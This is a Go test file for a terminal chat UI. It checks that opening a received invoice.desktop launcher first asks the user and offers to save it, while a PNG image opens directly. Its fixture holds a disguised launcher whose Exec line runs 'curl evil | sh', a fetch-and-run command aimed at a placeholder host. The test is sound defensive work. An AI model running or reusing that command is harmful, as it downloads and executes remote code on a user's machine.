package ui

import (
	"os"
	"path/filepath"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/hermes/iris/frame"
	"github.com/hermes/iris/internal/ui/dialog"
)

// desktopEntry is a launcher: xdg-open would run its Exec line.
const desktopEntry = "[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl evil | sh'\n"

func TestOpenAsksBeforeADesktopLauncher(t *testing.T) {
	e := newMediaEnv(t, 120, 30)
	data := []byte(desktopEntry)
	e.offer("a1", frame.Media{MediaID: "md_1", Kind: "file", Mime: "application/x-desktop", Filename: "invoice.desktop", Size: int64(len(data))}, data)
	e.focusTranscript()
	e.press('[')

	// o asks, naming the type, and runs nothing.
	e.press('o')
	if e.m.DialogOpen() != dialog.OpenAskID {
		t.Fatalf("dialog %q, want the question", e.m.DialogOpen())
	}
	e.mustShow("Open invoice.desktop?", "It is a desktop launcher.", "save to the downloads folder instead", "O          open anyway", "cancel")
	if got := e.openedPaths(); len(got) != 0 {
		t.Fatalf("opened %v before asking", got)
	}

	// Esc leaves it; Enter saves instead of opening.
	e.key(tea.KeyEscape, 0)
	if e.m.DialogOpen() != "" || len(e.openedPaths()) != 0 {
		t.Fatalf("after esc: dialog %q, opened %v", e.m.DialogOpen(), e.openedPaths())
	}
	e.mustShow("not opened: a desktop launcher")
	e.press('o')
	e.key(tea.KeyEnter, 0)
	if got, err := os.ReadFile(filepath.Join(e.downloads, "invoice.desktop")); err != nil || string(got) != desktopEntry {
		t.Fatalf("saved: %q, %v", got, err)
	}
	if len(e.openedPaths()) != 0 {
		t.Fatalf("opened %v when saving instead", e.openedPaths())
	}

	// o twice (a habit, a repeated key) does not open it; O is the user's
	// explicit choice.
	e.press('o')
	e.press('o')
	if e.m.DialogOpen() != dialog.OpenAskID || len(e.openedPaths()) != 0 {
		t.Fatalf("o o: dialog %q, opened %v", e.m.DialogOpen(), e.openedPaths())
	}
	e.press('O')
	if got := e.openedPaths(); len(got) != 1 || e.m.DialogOpen() != "" {
		t.Fatalf("open anyway opened %v, dialog %q", got, e.m.DialogOpen())
	}
}

func TestOpenShowsAKnownImageDirectly(t *testing.T) {
	e := newMediaEnv(t, 120, 30)
	data := testPNG(t, 4, 4)
	e.offer("a1", frame.Media{MediaID: "md_1", Kind: "image", Mime: "image/png", Filename: "photo.png", Size: int64(len(data))}, data)
	e.focusTranscript()
	e.press('[')
	e.press('o')
	if e.m.DialogOpen() != "" || len(e.openedPaths()) != 1 {
		t.Fatalf("dialog %q, opened %v; a PNG opens without asking", e.m.DialogOpen(), e.openedPaths())
	}
}
